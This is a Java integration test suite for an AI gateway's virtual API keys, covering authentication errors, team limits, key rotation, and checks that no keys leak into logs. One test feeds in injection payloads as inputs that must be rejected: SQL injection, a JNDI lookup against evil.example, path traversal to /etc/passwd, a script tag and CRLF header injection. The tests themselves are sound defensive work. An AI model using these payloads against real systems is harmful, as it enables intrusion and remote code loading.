package io.switchboard.sample.it;

import static org.assertj.core.api.Assertions.assertThat;

import io.switchboard.ai.Json;
import io.switchboard.sample.SampleGatewayApplication;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import tools.jackson.databind.JsonNode;

/**
 * Virtual keys through the real gateway: every 401/403 case, team bounds for keys minted by a team admin,
 * injection payloads in auth headers and admin fields, and a scan of logs and actuator answers for plaintext keys.
 */
@SpringBootTest(classes = SampleGatewayApplication.class, webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
    properties = "spring.config.location=classpath:/keys/keys-it.yml")
@ExtendWith(OutputCaptureExtension.class)
class VirtualKeysIT {

  static final ScriptedUpstream upstream = new ScriptedUpstream();
  static final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
  static final String ADMIN = "admin-key-for-integration-tests-0001";
  static final String DECLARED = "sk-sb-declaredCiKey000000000000000000000000000";
  /** Every plaintext key the gateway showed (once, at creation or rotation). */
  static final List<String> minted = new ArrayList<>();

  @LocalServerPort
  int port;

  @DynamicPropertySource
  static void upstreamPort(DynamicPropertyRegistry registry) {
    registry.add("fake.port", upstream::port);
  }

  @BeforeEach
  void fresh() {
    upstream.reset();
    upstream.script("/v1/chat/completions", ScriptedUpstream.ok("hello"));
    upstream.script("/v1/messages", ScriptedUpstream.ok("hello"));
  }

  @AfterAll
  static void close() {
    upstream.close();
  }

  @Test
  void validKeysPassAndTheLegacyStaticKeyStillWorks() throws Exception {
    String key = create(Map.of("name", "plain")).path("key").asString();
    assertThat(chat("/v1/chat/completions", "gpt-5", "Authorization", "Bearer " + key).statusCode()).isEqualTo(200);
    assertThat(chat("/v1/chat/completions", "gpt-5", "x-api-key", key).statusCode()).isEqualTo(200);
    assertThat(chat("/v1/chat/completions?key=" + key, "gpt-5").statusCode()).isEqualTo(200);
    assertThat(chat("/v1/chat/completions", "gpt-5", "Authorization", "Bearer static-legacy-client-key-0001")
        .statusCode()).isEqualTo(200);
    assertThat(chat("/v1/chat/completions", "gpt-4o-mini", "x-api-key", DECLARED).statusCode()).isEqualTo(200);
  }

  @Test
  void missingMalformedWrongExpiredAndRevokedKeysGetTheSame401() throws Exception {
    String expired = create(Map.of("expiresAt", Instant.now().minusSeconds(1).toString())).path("key").asString();
    JsonNode revokedKey = create(Map.of());
    String revoked = revokedKey.path("key").asString();
    assertThat(admin("DELETE", "/actuator/aikeys/" + revokedKey.path("id").asString(), null).statusCode())
        .isEqualTo(200);
    String wrong = "sk-sb-" + "A".repeat(43);
    List<HttpResponse<String>> answers = List.of(
        chat("/v1/chat/completions", "gpt-5"),
        chat("/v1/chat/completions", "gpt-5", "Authorization", "Bearer"),
        chat("/v1/chat/completions", "gpt-5", "Authorization", "Bearer not-a-key"),
        chat("/v1/chat/completions", "gpt-5", "x-api-key", "sk-sb-"),
        chat("/v1/chat/completions", "gpt-5", "x-api-key", wrong),
        chat("/v1/chat/completions", "gpt-5", "x-api-key", expired),
        chat("/v1/chat/completions", "gpt-5", "x-api-key", revoked),
        chat("/v1/chat/completions", "gpt-5", "x-api-key", DECLARED.substring(0, DECLARED.length() - 1) + "1"));
    for (HttpResponse<String> answer : answers) {
      assertThat(answer.statusCode()).as(answer.body()).isEqualTo(401);
      assertThat(answer.body()).isEqualTo(answers.get(0).body());
    }
    assertThat(answers.get(0).body()).contains("authentication_error").doesNotContain("expired", "revoked");
    // in the client's dialect
    HttpResponse<String> anthropic = chat("/v1/messages", "gpt-5", "x-api-key", revoked);
    assertThat(anthropic.statusCode()).isEqualTo(401);
    assertThat(Json.MAPPER.readTree(anthropic.body()).path("type").asString()).isEqualTo("error");
    assertThat(upstream.calls()).isEmpty();
  }

  @Test
  void outOfScopeModelsAndRoutesGet403() throws Exception {
    String key = create(Map.of("models", List.of("gpt-4o-mini"), "routes", List.of("open"))).path("key").asString();
    assertThat(chat("/v1/chat/completions", "gpt-4o-mini", "x-api-key", key).statusCode()).isEqualTo(200);
    HttpResponse<String> model = chat("/v1/chat/completions", "gpt-5", "x-api-key", key);
    assertThat(model.statusCode()).isEqualTo(403);
    assertThat(model.body()).contains("permission_error").doesNotContain("gpt-4o-mini");
    assertThat(chat("/other/v1/chat/completions", "gpt-4o-mini", "x-api-key", key).statusCode()).isEqualTo(403);
    // a team key is bounded by the team's models
    String team = create(Map.of("team", "ml")).path("key").asString();
    assertThat(chat("/v1/chat/completions", "gpt-4o", "x-api-key", team).statusCode()).isEqualTo(200);
    assertThat(chat("/v1/chat/completions", "claude-opus-4-1", "x-api-key", team).statusCode()).isEqualTo(403);
    HttpResponse<String> anthropic = chat("/v1/messages", "claude-opus-4-1", "x-api-key", team);
    assertThat(anthropic.statusCode()).isEqualTo(403);
    assertThat(anthropic.body()).contains("permission_error");
  }

  @Test
  void aKeyMintedByATeamAdminCannotExceedTheTeam() throws Exception {
    String alice = create(Map.of("user", "alice", "team", "ml")).path("key").asString();
    String bob = create(Map.of("user", "bob", "team", "ml")).path("key").asString();
    assertThat(adminAs(alice, "POST", "/actuator/aikeys", Map.of("team", "ml", "models", List.of("gpt-*")))
        .statusCode()).isEqualTo(403);
    assertThat(adminAs(alice, "POST", "/actuator/aikeys", Map.of("team", "ml", "budgetUsd", 1000))
        .statusCode()).isEqualTo(403);
    assertThat(adminAs(alice, "POST", "/actuator/aikeys", Map.of("models", List.of("gpt-4o"))).statusCode())
        .isEqualTo(403);
    assertThat(adminAs(alice, "POST", "/actuator/aiteams", Map.of("id", "ml", "models", List.of("*")))
        .statusCode()).isEqualTo(403);
    assertThat(adminAs(alice, "GET", "/actuator/aiaudit", null).statusCode()).isEqualTo(403);
    assertThat(adminAs(bob, "POST", "/actuator/aikeys", Map.of("team", "ml")).statusCode()).isEqualTo(401);
    HttpResponse<String> ok = adminAs(alice, "POST", "/actuator/aikeys",
        Map.of("team", "ml", "user", "bob", "models", List.of("gpt-4o-mini")));
    assertThat(ok.statusCode()).as(ok.body()).isEqualTo(200);
    JsonNode made = Json.MAPPER.readTree(ok.body());
    minted.add(made.path("key").asString());
    assertThat(made.path("createdBy").asString()).startsWith("user:alice");
    assertThat(made.path("limits").path("budgetUsd").asDouble()).isEqualTo(20.0);
    assertThat(chat("/v1/chat/completions", "gpt-4o", "x-api-key", made.path("key").asString()).statusCode())
        .isEqualTo(403);
    // alice sees her team's keys only
    JsonNode listed = Json.MAPPER.readTree(adminAs(alice, "GET", "/actuator/aikeys", null).body());
    assertThat(listed.path("keys").valueStream().map(k -> k.path("team").asString())).containsOnly("ml");
  }

  @Test
  void rotationKeepsTheOldKeyForItsGracePeriodAndIsAudited() throws Exception {
    JsonNode created = create(Map.of());
    String id = created.path("id").asString();
    String old = created.path("key").asString();
    HttpResponse<String> rotated = admin("POST", "/actuator/aikeys/" + id + "/rotate", Map.of("graceSeconds", 1));
    assertThat(rotated.statusCode()).as(rotated.body()).isEqualTo(200);
    String fresh = Json.MAPPER.readTree(rotated.body()).path("key").asString();
    minted.add(fresh);
    assertThat(chat("/v1/chat/completions", "gpt-5", "x-api-key", old).statusCode()).isEqualTo(200);
    Thread.sleep(1200);
    assertThat(chat("/v1/chat/completions", "gpt-5", "x-api-key", old).statusCode()).isEqualTo(401);
    assertThat(chat("/v1/chat/completions", "gpt-5", "x-api-key", fresh).statusCode()).isEqualTo(200);
    JsonNode audit = Json.MAPPER.readTree(admin("GET", "/actuator/aiaudit?target=key:" + id, null).body());
    assertThat(audit.path("entries").valueStream().map(e -> e.path("action").asString()))
        .containsExactly("key.create", "key.rotate");
    assertThat(audit.path("entries").get(1).path("actor").asString()).isEqualTo("admin:ops");
    assertThat(audit.path("entries").get(1).path("before").path("key").asString()).endsWith(old.substring(45));
  }

  @Test
  void injectionPayloadsChangeNothing() throws Exception {
    String[] payloads = {"' OR '1'='1", "${jndi:ldap://evil.example/a}", "../../../etc/passwd",
        "sk-sb-*", "*", "admin-key-for-integration-tests-000*", "<script>alert(1)</script>", "%00sk-sb-",
        "Bearer " + ADMIN, "x".repeat(5000)};
    int before = keyCount();
    for (String p : payloads) {
      for (String header : new String[] {"Authorization", "x-api-key", "x-goog-api-key"}) {
        String value = header.equals("Authorization") ? "Bearer " + p : p;
        int status = chat("/v1/chat/completions", "gpt-5", header, value).statusCode();
        assertThat(status).as(header + ": " + p).isIn(401, 431, 400);
      }
      assertThat(chat("/v1/chat/completions?key=" + URLEncoder.encode(p, StandardCharsets.UTF_8), "gpt-5")
          .statusCode()).isIn(401, 400, 414);
      assertThat(adminAs(p, "GET", "/actuator/aikeys", null).statusCode()).isIn(401, 431, 400);
    }
    List<Map<String, Object>> fields = List.of(
        Map.of("user", "alice\r\nx-injected: 1"), Map.of("team", "ml' OR 1=1 --"),
        Map.of("models", List.of("${jndi:ldap://evil.example/a}")), Map.of("routes", List.of("../admin")),
        Map.of("metadata", Map.of("k", "line\nbreak")), Map.of("metadata", Map.of("bad key", "v")),
        Map.of("name", "\u0000"), Map.of("expiresAt", "tomorrow; DROP TABLE"),
        Map.of("requestsPerMinute", -1));
    for (Map<String, Object> f : fields) {
      HttpResponse<String> r = admin("POST", "/actuator/aikeys", f);
      assertThat(r.statusCode()).as(f + " -> " + r.body()).isEqualTo(400);
      assertThat(r.body()).doesNotContain("jndi", "DROP", "injected", "evil");
    }
    HttpResponse<String> action = admin("POST", "/actuator/aikeys/ci/drop", Map.of());
    assertThat(action.statusCode()).isEqualTo(400);
    assertThat(admin("POST", "/actuator/aikeys/..%2F..%2Fci/revoke", Map.of()).statusCode()).isIn(400, 404);
    assertThat(keyCount()).isEqualTo(before);
    assertThat(chat("/v1/chat/completions", "gpt-4o-mini", "x-api-key", DECLARED).statusCode()).isEqualTo(200);
  }

  @Test
  void noPlaintextKeyInLogsOrActuatorAnswers(CapturedOutput output) throws Exception {
    JsonNode a = create(Map.of("name", "scan", "metadata", Map.of("owner", "team-x")));
    String id = a.path("id").asString();
    HttpResponse<String> pasted = admin("POST", "/actuator/aikeys/" + id + "/update",
        Map.of("metadata", Map.of("note", "pasted " + a.path("key").asString())));
    assertThat(pasted.statusCode()).as("a key pasted into an admin field is refused").isEqualTo(400);
    assertThat(admin("POST", "/actuator/aikeys/" + id + "/update", Map.of("name", "renamed")).statusCode())
        .isEqualTo(200);
    HttpResponse<String> rotated = admin("POST", "/actuator/aikeys/" + id + "/rotate", Map.of("graceSeconds", 0));
    minted.add(Json.MAPPER.readTree(rotated.body()).path("key").asString());
    chat("/v1/chat/completions", "gpt-5", "x-api-key", a.path("key").asString());
    chat("/v1/chat/completions", "gpt-5", "x-api-key", minted.get(minted.size() - 1));
    List<String> answers = new ArrayList<>();
    for (String path : new String[] {"/actuator/aikeys", "/actuator/aikeys/" + id, "/actuator/aiteams",
        "/actuator/aiaudit?limit=1000", "/actuator", "/actuator/aikeys/ci"}) {
      HttpResponse<String> r = admin("GET", path, null);
      answers.add(r.body());
    }
    answers.add(output.getAll());
    List<String> secrets = new ArrayList<>(minted);
    secrets.add(DECLARED);
    secrets.add(ADMIN);
    secrets.add("static-legacy-client-key-0001");
    secrets.add("upstream-provider-secret");
    for (String body : answers) {
      for (String secret : secrets) {
        assertThat(body).as("a plaintext key leaked").doesNotContain(secret);
      }
      assertThat(body).doesNotContainPattern("sk-sb-[0-9A-Za-z]{20,}").doesNotContain("hmac:");
    }
  }

  // ---- helpers ---------------------------------------------------------------------------------------------------

  private JsonNode create(Map<String, Object> fields) throws Exception {
    HttpResponse<String> r = admin("POST", "/actuator/aikeys", fields);
    assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
    JsonNode node = Json.MAPPER.readTree(r.body());
    assertThat(node.path("key").asString()).startsWith("sk-sb-");
    minted.add(node.path("key").asString());
    return node;
  }

  private int keyCount() throws Exception {
    return Json.MAPPER.readTree(admin("GET", "/actuator/aikeys", null).body()).path("keys").size();
  }

  private HttpResponse<String> admin(String method, String path, Object body) throws Exception {
    return adminAs(ADMIN, method, path, body);
  }

  private HttpResponse<String> adminAs(String adminKey, String method, String path, Object body) throws Exception {
    HttpRequest.Builder b = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
        .timeout(Duration.ofSeconds(10)).header("x-switchboard-admin-key", adminKey);
    if (body == null) {
      b.method(method, HttpRequest.BodyPublishers.noBody());
    } else {
      b.header("content-type", "application/json")
          .method(method, HttpRequest.BodyPublishers.ofString(Json.MAPPER.writeValueAsString(asStrings(body))));
    }
    return http.send(b.build(), HttpResponse.BodyHandlers.ofString());
  }

  /** Actuator write operations take string values: lists and maps go as their JSON text, numbers as digits. */
  private static Object asStrings(Object body) {
    if (!(body instanceof Map<?, ?> map)) {
      return body;
    }
    Map<String, String> out = new java.util.LinkedHashMap<>();
    map.forEach((k, v) -> out.put(String.valueOf(k),
        v instanceof String s ? s : v instanceof Number n ? n.toString() : Json.MAPPER.writeValueAsString(v)));
    return out;
  }

  private HttpResponse<String> chat(String path, String model, String... headers) throws Exception {
    String body = path.contains("/messages")
        ? "{\"model\":\"" + model + "\",\"max_tokens\":5,\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}"
        : "{\"model\":\"" + model + "\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}";
    HttpRequest.Builder b = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
        .timeout(Duration.ofSeconds(10)).header("content-type", "application/json")
        .POST(HttpRequest.BodyPublishers.ofString(body));
    for (int i = 0; i + 1 < headers.length; i += 2) {
      b.header(headers[i], headers[i + 1]);
    }
    return http.send(b.build(), HttpResponse.BodyHandlers.ofString());
  }
}
